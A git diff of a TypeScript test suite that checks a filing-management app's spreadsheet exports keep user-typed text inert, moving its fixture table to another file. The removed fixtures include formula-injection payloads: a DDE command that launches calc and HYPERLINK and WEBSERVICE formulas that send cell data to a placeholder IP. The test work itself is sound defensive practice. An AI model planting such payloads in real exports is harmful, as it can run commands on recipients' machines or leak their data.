@@ -7,40 +7,19 @@ import type { Endpoint } from '#core/api/endpoint.ts'
 import { handOutKinds } from '#core/api/hand-out.ts'
 import type { PushAnswer } from '#core/api/rows.ts'
 import { type EndpointId, endpoints } from '#core/api/table.ts'
-import type { Actor } from '#server/actions/actor.ts'
 import { readCsv, streamCsv } from '#workbook/csv.ts'
 import { fillTemplate } from '#workbook/fill.ts'
-import { owner, qianJin, shiLi, wangFang, xinqiao, zhouTao } from '../server/cast.ts'
-import { assessed, faGai, jingWei, staged } from '../server/filing/stage.ts'
-import { madeAgain } from '../server/formal/made-again.ts'
-import { answer, type Call, call, type TestApp, testApp } from '../server/http/test-app.ts'
+import { owner, wangFang, xinqiao, zhouTao } from '../server/cast.ts'
+import { answer, call, type TestApp, testApp } from '../server/http/test-app.ts'
 import { batchOf, cycle, firmFields, firmRow, parcelFields, parcelRow } from '../server/rows.ts'
 import { workbookWith } from '../server/upload/workbook-parts.ts'
 import { zipOf } from '../server/upload/zip-builder.ts'
 import { firmCells, parcelCells } from '../server/workbooks.ts'
-import { classListExports } from './class-lists-with-formulas.ts'
-import {
-  baseImportWithFormulas,
-  differencesWithFormulas,
-  evaluatedWithFormulas,
-  listWithFormulas,
-  planWithFormulas,
-  publicationWithFormulas,
-  reportWithFormulas,
-  taxOffice,
-  typedInBase,
-  typedInList,
-  typedInPlan,
-  typedInReport,
-} from './files-with-formulas.ts'
+import { codeOf, codes, type Export, exports, filingWithFormulas } from './file-endpoints.ts'
 import { formulas } from './formula-texts.ts'
 import { cellsIn, savedByLibreOffice } from './opened-again.ts'
 
 /* What somebody types into a field must stay what they typed in every file that we give out, in a real spreadsheet. */
-
-function codeOf(index: number): string {
-  return `=P+${index}`
-}
 
 /** A district in which every field that takes text holds a formula, codes of parcels and a credit code among them. */
 async function district(): Promise<TestApp> {
@@ -62,169 +41,6 @@ async function district(): Promise<TestApp> {
   return app
 }
 
-interface Export {
-  readonly by: Actor
-  readonly request: Call
-  /** Makes what the file is about; its id. */
-  readonly made?: (app: TestApp) => Promise<string>
-  /** Texts of ours that must be found in it, each in a cell of its own. */
-  readonly holds: readonly string[]
-}
-
-const codes = formulas.map((_, index) => codeOf(index))
-
-/** Of one filing, by label: whatever a text takes. */
-const filingTexts = {
-  项目名称: '=1+1',
-  项目单位: "=cmd|'/c calc'!A1",
-  项目地址: '@SUM(1)',
-  改造内容: '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")',
-  主要污染物: '-2+3',
-  正面清单条款: '{=1+1}',
-}
-const noteTyped = '=WEBSERVICE("http://192.0.2.1/")'
-const commentTyped = '+1+1'
-
-/** A filing in 联审 whose texts are formulas; its id. */
-async function filingWithFormulas(app: TestApp): Promise<string> {
-  const filing = await staged(app, filingTexts)
-  await filing.act(shiLi, { kind: 'submit' }, { documents: ['boundary', 'title', 'contract'] })
-  await filing.act(jingWei, { kind: 'accept' })
-  const act = assessed('inside-kept')
-  const answers = 'answers' in act ? act.answers.map((each) => ({ ...each, note: noteTyped })) : []
-  await filing.act(
-    jingWei,
-    { ...act, ...('answers' in act ? { answers } : {}) },
-    { documents: ['preliminary-opinion'] },
-  )
-  await filing.toStamped()
-  await filing.act(jingWei, { kind: 'open-review', invited: [{ reviewer: 'reform', dueDay: '2026-11-30' }] })
-  const opinion = { kind: 'give-opinion', reviewer: 'reform', opinion: '同意' } as const
-  await filing.act(faGai, opinion, { comment: commentTyped })
-  return filing.id
-}
-
-/** Every endpoint that answers with a file. A new one fails the test until it has a line here. */
-const exports: Readonly<Partial<Record<EndpointId, Export | 'holds nothing typed' | 'has a test of its own'>>> = {
-  exportLedger: { by: zhouTao, request: { query: { cycle } }, holds: [...codes, ...formulas] },
-  exportSoeLettings: { by: zhouTao, request: { query: { cycle, soe: '否,区属' } }, holds: codes },
-  ...classListExports,
-  exportDisposalPlans: {
-    by: zhouTao,
-    request: {},
-    made: planWithFormulas,
-    holds: ['=P+1', ...Object.values(typedInPlan)],
-  },
-  exportSoeDisposal: {
-    by: zhouTao,
-    request: {},
-    made: planWithFormulas,
-    holds: ['=P+1', typedInPlan.milestone1Name],
-  },
-  disposalSheet: { by: zhouTao, request: {}, made: planWithFormulas, holds: ['=P+1', ...Object.values(typedInPlan)] },
-  disposalPlanFile: 'holds nothing typed',
-  exportFormalGates: {
-    by: zhouTao,
-    request: { query: { cycle } },
-    made: async (app) => {
-      await answer(app, zhouTao, 'checkFormalGates', { body: { cycle } })
-      return ''
-    },
-    holds: codes,
-  },
-  exportReEvaluation: { by: zhouTao, request: {}, made: (app) => madeAgain(app, codes, '=1+1'), holds: codes },
-  exportResults: { by: zhouTao, request: { params: { id: '1' } }, holds: codes },
-  // Every parcel is told: a year without rows has none of them.
-  exportComparison: {
-    by: zhouTao,
-    request: { query: { cycle: '2024', from: 'evaluation:1', to: 'standard:REG-示例-2026.1' } },
-    holds: codes,
-  },
-  // JSON for the page.
-  compare: 'has a test of its own',
-  tryOutParcels: 'has a test of its own',
-  issueInvitations: {
-    by: wangFang,
-    request: { body: { cycle, parcelCodes: codes } },
-    holds: [formulas[0] ?? '', codes[1] ?? ''],
-  },
-  checkUpSheet: {
-    by: zhouTao,
-    request: { params: { cycle, parcelCode: codes[1] ?? '' }, query: { format: 'xlsx' } },
-    holds: [codes[1] ?? '', formulas[1] ?? ''],
-  },
-  // PDFs, one or many.
-  checkUpSheets: 'holds nothing typed',
-  exportAudit: { by: qianJin, request: {}, holds: ['=1+1'] },
-  template: 'holds nothing typed',
-  // PDFs, and pictures as somebody sent them.
-  surveySheets: 'holds nothing typed',
-  surveySummary: 'holds nothing typed',
-  surveyPicture: 'holds nothing typed',
-  letter: 'holds nothing typed',
-  // Figures, and names of our own.
-  exportProgress: 'holds nothing typed',
-  exportDecisionOverview: 'holds nothing typed',
-  letterBatch: 'has a test of its own',
-  exportFormalLetters: 'has a test of its own',
-  letterBatchFile: 'has a test of its own',
-  // PDFs and .docx, which have no cells, and files as somebody sent them.
-  formalLetterFile: 'holds nothing typed',
-  letterReceipt: 'holds nothing typed',
-  // The file as somebody sent it.
-  filingDocument: 'holds nothing typed',
-  disputeFile: 'holds nothing typed',
-  stageDocument: 'holds nothing typed',
-  // Parcels as rows of a workbook and of a CSV within a zip.
-  cityPackageFile: 'has a test of its own',
-  archiveFile: 'has a test of its own',
-  opinionTemplate: {
-    by: zhouTao,
-    request: { params: { cycle } },
-    made: evaluatedWithFormulas,
-    holds: [codes[1] ?? '', formulas[1] ?? ''],
-  },
-  objectionFile: 'holds nothing typed',
-  publicationFile: {
-    by: zhouTao,
-    request: { params: { number: '1' }, query: { as: 'xlsx' } },
-    made: publicationWithFormulas,
-    holds: [codes[1] ?? '', formulas[1] ?? ''],
-  },
-  filingSheet: {
-    by: zhouTao,
-    request: { params: { version: '1' }, query: { format: 'xlsx' } },
-    holds: [...Object.values(filingTexts), noteTyped],
-  },
-  filingReviewTable: { by: zhouTao, request: { query: { format: 'xlsx' } }, holds: [commentTyped] },
-  filingHandover: { by: zhouTao, request: {}, holds: Object.values(filingTexts) },
-  exportFilings: { by: zhouTao, request: {}, holds: [filingTexts.项目名称, filingTexts.项目单位] },
-  baseReport: { by: zhouTao, request: {}, made: baseImportWithFormulas, holds: Object.values(typedInBase) },
-  departmentListReport: { by: taxOffice, request: {}, made: listWithFormulas, holds: Object.values(typedInList) },
-  exportLayerDifferences: {
-    by: zhouTao,
-    request: { query: { cycle } },
-    made: differencesWithFormulas,
-    holds: [codes[1] ?? '', formulas[1] ?? ''],
-  },
-  mechanismFile: {
-    by: zhouTao,
-    request: { params: { year: '2026', version: '1' }, query: { format: 'xlsx' } },
-    made: reportWithFormulas,
-    holds: Object.values(typedInReport),
-  },
-  // Workbooks with formulas of ours.
-  uploadRunReport: 'has a test of its own',
-  handOutWorkbooks: 'has a test of its own',
-  accountListTemplate: 'holds nothing typed',
-  createAccounts: 'has a test of its own',
-  standardWorkbook: 'has a test of its own',
-  // JSON.
-  standardJsonFile: 'holds nothing typed',
-  exportRoster: 'has a test of its own',
-  inviteTown: 'has a test of its own',
-}
-
 async function fileOf(app: TestApp, id: EndpointId, { by, request, made }: Export, filing = ''): Promise<Uint8Array> {
   const params = made !== undefined ? { id: await made(app) } : id.startsWith('filing') ? { id: filing } : {}
   const response = await call(app, by, id, { ...request, params: { ...params, ...request.params } })
@@ -232,7 +48,7 @@ async function fileOf(app: TestApp, id: EndpointId, { by, request, made }: Expor
   return response.bytes()
 }
 
-it('凡答复文件的接口都在上面的表里', () => {
+it('凡答复文件的接口都在表里', () => {
   const binary = (Object.keys(endpoints) as EndpointId[]).filter((id) =>
     Object.values((endpoints[id] as Endpoint).answers).some((shape) => 'binary' in shape),
   )
